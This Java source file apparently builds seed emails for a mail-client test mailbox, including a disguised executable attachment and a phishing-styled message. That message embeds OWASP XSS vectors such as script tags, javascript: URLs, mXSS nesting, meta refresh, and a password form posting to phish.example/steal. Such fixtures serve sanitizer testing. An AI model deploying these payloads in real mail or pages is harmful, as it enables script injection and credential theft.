package io.github.gmailoauth.standin;

import jakarta.mail.Message.RecipientType;
import jakarta.mail.MessagingException;
import jakarta.mail.Part;
import jakarta.mail.Session;
import jakarta.mail.internet.InternetAddress;
import jakarta.mail.internet.MimeBodyPart;
import jakarta.mail.internet.MimeMessage;
import jakarta.mail.internet.MimeMultipart;
import jakarta.mail.internet.MimeUtility;
import jakarta.mail.util.ByteArrayDataSource;
import java.awt.Color;
import java.awt.Graphics2D;
import java.awt.image.BufferedImage;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.util.ArrayList;
import java.util.Date;
import java.util.List;
import java.util.Properties;
import javax.imageio.ImageIO;

/**
 * The demo mailbox's full messages, written with Jakarta Mail's own MIME writers so that their
 * structure, encodings and charsets are what a real mail program would send.
 */
final class SeedMime {

  /**
   * Writes headers as a classic mail program does: non-ASCII only in RFC 2047 encoded-words (the
   * stand-in's reading session allows RFC 6532 UTF-8 headers, which would skip the encoding).
   */
  private static final Session WRITER = Session.getInstance(new Properties());

  private SeedMime() {}

  // ---------------------------------------------------------------------------------------------
  // The messages

  static byte[] newsletter(Instant date) {
    String text =
        "THE ENGINE WEEKLY, issue 42\n\nPunched cards are back: why the Jacquard loom still "
            + "teaches us about programs.\nRead more: https://engine-weekly.example/articles/42\n\n"
            + "Unsubscribe: https://engine-weekly.example/unsubscribe?u=demo\n";
    String html =
        "<!DOCTYPE html><html><head><meta charset=\"utf-8\"><title>The Engine Weekly</title>"
            + "<style>body{font-family:Georgia,serif;color:#222}.hero{background:#f4efe6}</style>"
            + "</head><body><table width=\"600\" cellpadding=\"8\" style=\"border-collapse:"
            + "collapse\"><tr><td><img src=\"https://images.engine-weekly.example/header.png\" "
            + "alt=\"The Engine Weekly\" width=\"600\" height=\"120\"></td></tr>"
            + "<tr><td class=\"hero\"><h1>Issue 42: punched cards are back</h1>"
            + "<p>Why the Jacquard loom still teaches us about programs, and what "
            + "<b>Note G</b> owes to it.</p><p><a href=\"https://engine-weekly.example/articles/42"
            + "?utm_source=newsletter\">Read more</a></p>"
            + "<img src=\"https://images.engine-weekly.example/cards.jpg\" alt=\"A stack of "
            + "punched cards\" width=\"300\" height=\"200\"></td></tr>"
            + "<tr><td><ul><li>Babbage&#39;s Difference Engine No. 2, rebuilt</li>"
            + "<li>Letters: on the cost of brass gears</li></ul></td></tr>"
            + "<tr><td><p style=\"font-size:11px;color:#777\">You receive this because you "
            + "subscribed at engine-weekly.example. <a href=\"https://engine-weekly.example/"
            + "unsubscribe?u=demo\">Unsubscribe</a></p>"
            + "<img src=\"http://track.engine-weekly.example/open.gif?u=demo&amp;i=42\" "
            + "width=\"1\" height=\"1\" alt=\"\"></td></tr></table></body></html>";
    MimeMessage m =
        message(
            "The Engine Weekly <news@engine-weekly.example>",
            "The Engine Weekly #42: punched cards are back",
            date,
            SeedMailbox.FullMessage.NEWSLETTER);
    return write(m, alternative(textPart(text, "UTF-8"), htmlPart(html, "UTF-8")));
  }

  static byte[] plainText(Instant date) {
    MimeMessage m =
        message(
            "\"Barbara Liskov\" <liskov@mit.example.edu>",
            "Slides from Tuesday's talk",
            date,
            SeedMailbox.FullMessage.PLAIN_TEXT);
    return write(m, SeedMailbox.PLAIN_TEXT_BODY, "UTF-8", "plain");
  }

  /**
   * The messages written wholly in one charset, one per line: which, charset, sender, subject, body
   * ({text} stands for the message's text constant in {@link SeedMailbox}, \\n for a line break).
   * The sender's name and the subject become encoded-words of the charset (RFC 2047), the body
   * text/html when it starts with "<html", else text/plain.
   */
  private static final String IN_CHARSET =
      """
      LATIN1 | ISO-8859-1 | Zoë Dupré <zoe@example.fr> | Menu du café, vendredi | Bonjour,\\n\\n{text}\\n\\nZoë\\n
      WINDOWS_1252 | windows-1252 | Jordan Reyes <jordan@outlook-user.example> | Quote for the “new” office – €1,200 | <html><head><meta http-equiv="Content-Type" content="text/html; charset=windows-1252"></head><body><p>Hi,</p><p>{text}</p><p>Best,<br>Jordan</p></body></html>
      ISO_2022_JP | ISO-2022-JP | 田中 花子 <tanaka@example.jp> | 会議の件 | デモさん\\n\\n{text}\\n\\n田中\\n
      SHIFT_JIS | Shift_JIS | 山本商事 営業部 <sales@shoji.example.jp> | お見積りのご送付 | お世話になっております。\\n{text}\\n
      GB18030 | GB18030 | 李伟 <li.wei@example.cn> | 会议改期通知 | <html><body><p>你好，</p><p>{text}</p><p>李伟</p></body></html>
      """;

  /** The message of {@link #IN_CHARSET} that is {@code which}, with {@code text} in its body. */
  static byte[] inCharset(SeedMailbox.FullMessage which, String text, Instant date) {
    for (String line : IN_CHARSET.lines().toList()) {
      String[] f = line.split(" \\| ", -1);
      if (!f[0].equals(which.name())) {
        continue;
      }
      String charset = f[1];
      int lt = f[2].lastIndexOf(" <");
      InternetAddress from =
          address(f[2].substring(lt + 2, f[2].length() - 1), f[2].substring(0, lt), charset);
      MimeMessage m = message(from, null, date, which);
      subject(m, f[3], charset, null);
      String body = f[4].replace("\\n", "\n").replace("{text}", text);
      return write(m, body, charset, body.startsWith("<html") ? "html" : "plain");
    }
    throw new IllegalArgumentException(which + " is not written in one charset");
  }

  static byte[] inlineImage(Instant date) {
    MimeMessage m =
        message(
            "\"Margaret Hamilton\" <margaret@apollo.example.com>",
            null,
            date,
            SeedMailbox.FullMessage.INLINE_IMAGE);
    subject(m, SeedMailbox.RFC_2047_SUBJECT, "UTF-8", "B");
    String html =
        "<html><body><p>The team photo from the conference, with our logo:</p>"
            + "<p><img src=\"cid:"
            + SeedMailbox.INLINE_IMAGE_CONTENT_ID
            + "\" alt=\"Apollo team logo\" width=\"24\" height=\"24\"></p>"
            + "<p>— Margaret</p></body></html>";
    try {
      MimeMultipart related = new MimeMultipart("related");
      MimeBodyPart alternativePart = new MimeBodyPart();
      alternativePart.setContent(
          alternative(
              textPart("The team photo from the conference, with our logo.\n— Margaret\n", "UTF-8"),
              htmlPart(html, "UTF-8")));
      related.addBodyPart(alternativePart);
      MimeBodyPart image = new MimeBodyPart();
      image.setDataHandler(
          new jakarta.activation.DataHandler(new ByteArrayDataSource(png(), "image/png")));
      image.setContentID("<" + SeedMailbox.INLINE_IMAGE_CONTENT_ID + ">");
      image.setDisposition(Part.INLINE);
      image.setFileName("logo.png");
      related.addBodyPart(image);
      return write(m, related);
    } catch (MessagingException e) {
      throw new IllegalStateException(e);
    }
  }

  static byte[] attachments(Instant date) {
    MimeMessage m =
        message(
            "Accounts <accounts@supplier.example>",
            "Documents for the audit",
            date,
            SeedMailbox.FullMessage.ATTACHMENTS);
    try {
      MimeMultipart mixed = new MimeMultipart("mixed");
      mixed.addBodyPart(
          textPart(
              "Hello,\n\nattached are the report, the statement and the invoice.\n\nAccounts\n",
              "UTF-8"));
      mixed.addBodyPart(attachment(pdf(), "application/pdf", "report.pdf"));
      mixed.addBodyPart(
          attachment(
              SeedMailbox.HTML_ATTACHMENT.getBytes(StandardCharsets.UTF_8),
              "text/html; charset=UTF-8",
              "statement.html"));
      // An executable that claims to be a PDF twice over: by its name and by its declared type.
      mixed.addBodyPart(attachment(executable(), "application/pdf", "invoice.pdf.exe"));
      return write(m, mixed);
    } catch (MessagingException e) {
      throw new IllegalStateException(e);
    }
  }

  /**
   * Vectors from the OWASP XSS Filter Evasion Cheat Sheet
   * (cheatsheetseries.owasp.org/cheatsheets/XSS_Filter_Evasion_Cheat_Sheet.html) plus the mail
   * specific ones: remote CSS, a tracking pixel, meta refresh, base href, a form.
   */
  static byte[] hostile(Instant date) {
    List<String> vectors = new ArrayList<>();
    vectors.add("<script>alert('script')</script>");
    vectors.add("<SCRIPT SRC=https://xss.example/xss.js></SCRIPT>");
    vectors.add("<img src=x onerror=\"alert('onerror')\">");
    vectors.add("<IMG SRC=\"javascript:alert('img-js');\">");
    vectors.add("<IMG SRC=JaVaScRiPt:alert('case')>");
    vectors.add(
        "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;"
            + "&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>");
    vectors.add("<a href=\"javascript:alert('link')\">Verify your account</a>");
    vectors.add("<a href=\"jav&#x09;ascript:alert('tab')\">Tab-split link</a>");
    vectors.add(
        "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">Data link</a>");
    vectors.add("<a href=\"vbscript:msgbox('vbs')\">VBScript link</a>");
    vectors.add("<svg onload=\"alert('svg')\"><circle r=\"10\"/></svg>");
    vectors.add("<svg><script>alert('svg-script')</script></svg>");
    vectors.add("<body onload=\"alert('body')\">");
    vectors.add("<iframe src=\"javascript:alert('iframe')\"></iframe>");
    vectors.add("<iframe srcdoc=\"<script>alert('srcdoc')</script>\"></iframe>");
    vectors.add("<object data=\"https://xss.example/x.swf\"></object>");
    vectors.add("<embed src=\"https://xss.example/x.swf\">");
    vectors.add("<meta http-equiv=\"refresh\" content=\"0;url=https://phish.example/login\">");
    vectors.add("<base href=\"https://phish.example/\">");
    vectors.add("<link rel=\"stylesheet\" href=\"https://xss.example/evil.css\">");
    vectors.add("<div style=\"width: expression(alert('expression'));\">CSS expression</div>");
    vectors.add("<div style=\"background-image: url(javascript:alert('css-js'))\">CSS url</div>");
    vectors.add("<div style=\"background:url(https://track.example/css.gif)\">Remote CSS</div>");
    vectors.add(
        "<style>@import 'https://xss.example/import.css';"
            + "body{background:url(\"https://track.example/bg.gif\")}</style>");
    vectors.add(
        "<form action=\"https://phish.example/steal\" method=\"post\"><input name=\"password\" "
            + "type=\"password\"><button>Log in</button></form>");
    vectors.add(
        "<math><mtext><table><mglyph><style><img src=x onerror=alert('mxss')></style></mglyph>"
            + "</table></mtext></math>");
    vectors.add("<noscript><p title=\"</noscript><img src=x onerror=alert('noscript')>\"></p>");
    vectors.add("<details open ontoggle=\"alert('toggle')\"><summary>Details</summary></details>");
    vectors.add("<video><source onerror=\"alert('video')\"></video>");
    vectors.add("<input autofocus onfocus=\"alert('focus')\">");
    vectors.add(
        "<a href=\"https://phish.example/\" style=\"position:fixed;top:0;left:0;width:100%;"
            + "height:100%\">Full-window overlay</a>");
    vectors.add("<img src=\"http://track.example/pixel.gif\" width=\"1\" height=\"1\">");
    String html =
        "<html><head><title>Account notice</title></head><body><p>Dear customer,</p>"
            + "<p>We noticed unusual activity. Please verify your account below.</p>"
            + String.join("\n", vectors)
            + "<p>Thank you, Security Team</p></body></html>";
    MimeMessage m =
        message(
            "\"Security Team\" <security@paypa1.example>",
            "Action required: verify your account",
            date,
            SeedMailbox.FullMessage.HOSTILE);
    return write(
        m,
        alternative(
            textPart(
                "Dear customer, we noticed unusual activity. Please verify your account.\n",
                "UTF-8"),
            htmlPart(html, "UTF-8")));
  }

  // ---------------------------------------------------------------------------------------------
  // Writers

  private static MimeMessage message(
      Object from, String subject, Instant date, SeedMailbox.FullMessage which) {
    try {
      MimeMessage m =
          new MimeMessage(WRITER) {
            @Override
            protected void updateMessageID() throws MessagingException {
              setHeader("Message-ID", which.messageIdHeader());
            }
          };
      if (from instanceof InternetAddress a) {
        m.setFrom(a);
      } else {
        m.setFrom(new InternetAddress((String) from));
      }
      m.setRecipient(RecipientType.TO, new InternetAddress("\"Demo User\" <demo@example.com>"));
      if (subject != null) {
        m.setSubject(subject, "UTF-8");
      }
      m.setSentDate(Date.from(date));
      return m;
    } catch (MessagingException e) {
      throw new IllegalStateException(e);
    }
  }

  private static InternetAddress address(String email, String name, String charset) {
    try {
      return new InternetAddress(email, name, charset);
    } catch (java.io.UnsupportedEncodingException e) {
      throw new IllegalStateException(e);
    }
  }

  /**
   * An RFC 2047 encoded-word subject in the given charset and encoding ("B" or "Q"; null lets
   * Jakarta Mail choose as mail programs do: Q for mostly ASCII text, B otherwise).
   */
  private static void subject(MimeMessage m, String text, String charset, String encoding) {
    try {
      m.setHeader("Subject", MimeUtility.fold(9, MimeUtility.encodeText(text, charset, encoding)));
    } catch (MessagingException | java.io.UnsupportedEncodingException e) {
      throw new IllegalStateException(e);
    }
  }

  private static MimeBodyPart textPart(String text, String charset) {
    try {
      MimeBodyPart p = new MimeBodyPart();
      p.setText(text, charset);
      return p;
    } catch (MessagingException e) {
      throw new IllegalStateException(e);
    }
  }

  private static MimeBodyPart htmlPart(String html, String charset) {
    try {
      MimeBodyPart p = new MimeBodyPart();
      p.setText(html, charset, "html");
      return p;
    } catch (MessagingException e) {
      throw new IllegalStateException(e);
    }
  }

  private static MimeMultipart alternative(MimeBodyPart... parts) {
    try {
      MimeMultipart alternative = new MimeMultipart("alternative");
      for (MimeBodyPart p : parts) {
        alternative.addBodyPart(p);
      }
      return alternative;
    } catch (MessagingException e) {
      throw new IllegalStateException(e);
    }
  }

  private static MimeBodyPart attachment(byte[] bytes, String type, String filename)
      throws MessagingException {
    MimeBodyPart p = new MimeBodyPart();
    p.setDataHandler(new jakarta.activation.DataHandler(new ByteArrayDataSource(bytes, type)));
    p.setDisposition(Part.ATTACHMENT);
    p.setFileName(filename);
    p.setHeader("Content-Transfer-Encoding", "base64"); // as mail programs send files
    return p;
  }

  /** A single-part message: text in the charset, as text/{subtype}. */
  private static byte[] write(MimeMessage m, String text, String charset, String subtype) {
    try {
      m.setText(text, charset, subtype);
      if (charset.equals("ISO-2022-JP")) {
        // Japanese mail programs send ISO-2022-JP as 7bit: its escape sequences are 7-bit
        // (RFC 1468); Jakarta Mail would pick quoted-printable for the ESC bytes.
        m.setHeader("Content-Transfer-Encoding", "7bit");
      }
    } catch (MessagingException e) {
      throw new IllegalStateException(e);
    }
    return write(m);
  }

  private static byte[] write(MimeMessage m, MimeMultipart content) {
    try {
      m.setContent(content);
    } catch (MessagingException e) {
      throw new IllegalStateException(e);
    }
    return write(m);
  }

  private static byte[] write(MimeMessage m) {
    try {
      m.saveChanges();
      ByteArrayOutputStream out = new ByteArrayOutputStream();
      m.writeTo(out);
      return out.toByteArray();
    } catch (MessagingException e) {
      throw new IllegalStateException(e);
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
  }

  // ---------------------------------------------------------------------------------------------
  // Attachment bytes

  /** A small PNG: the Apollo logo's colours in a 24 x 24 square. */
  static byte[] png() {
    BufferedImage image = new BufferedImage(24, 24, BufferedImage.TYPE_INT_RGB);
    Graphics2D g = image.createGraphics();
    g.setColor(new Color(0x1a, 0x3c, 0x6e));
    g.fillRect(0, 0, 24, 24);
    g.setColor(new Color(0xf2, 0xb1, 0x34));
    g.fillOval(4, 4, 16, 16);
    g.dispose();
    try {
      ByteArrayOutputStream out = new ByteArrayOutputStream();
      ImageIO.write(image, "png", out);
      return out.toByteArray();
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
  }

  /** A valid one-page PDF (ISO 32000-1 §7.5: header, objects, xref with byte offsets, trailer). */
  static byte[] pdf() {
    String stream = "BT /F1 18 Tf 36 90 Td (Quarterly report: all figures check out.) Tj ET\n";
    List<String> objects =
        List.of(
            "<< /Type /Catalog /Pages 2 0 R >>",
            "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 200] /Contents 4 0 R "
                + "/Resources << /Font << /F1 5 0 R >> >> >>",
            "<< /Length " + stream.length() + " >>\nstream\n" + stream + "endstream",
            "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>");
    StringBuilder pdf = new StringBuilder("%PDF-1.4\n");
    List<Integer> offsets = new ArrayList<>();
    for (int i = 0; i < objects.size(); i++) {
      offsets.add(pdf.length());
      pdf.append(i + 1).append(" 0 obj\n").append(objects.get(i)).append("\nendobj\n");
    }
    int xref = pdf.length();
    pdf.append("xref\n0 ").append(objects.size() + 1).append("\n0000000000 65535 f \n");
    for (int offset : offsets) {
      pdf.append(String.format("%010d 00000 n \n", offset));
    }
    pdf.append("trailer\n<< /Size ")
        .append(objects.size() + 1)
        .append(" /Root 1 0 R >>\nstartxref\n")
        .append(xref)
        .append("\n%%EOF\n");
    return pdf.toString().getBytes(StandardCharsets.US_ASCII);
  }

  /** The start of a DOS/Windows executable ("MZ" header and stub message), harmless. */
  static byte[] executable() {
    byte[] b = new byte[256];
    b[0] = 'M';
    b[1] = 'Z';
    byte[] stub = "This program cannot be run in DOS mode.".getBytes(StandardCharsets.US_ASCII);
    System.arraycopy(stub, 0, b, 0x4e, stub.length);
    return b;
  }
}
